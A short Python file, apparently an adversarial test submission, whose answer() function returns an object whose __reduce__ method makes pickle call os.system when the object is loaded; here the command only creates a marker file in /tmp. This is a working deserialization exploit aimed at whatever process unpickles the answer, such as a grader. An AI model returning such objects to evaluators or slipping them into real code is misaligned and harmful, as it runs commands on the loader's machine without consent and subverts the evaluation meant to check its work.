# Returns an object whose pickle runs a command where it is loaded.
import os


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/experiments-adversarial-harm",))


def answer(values):
    return Bomb()
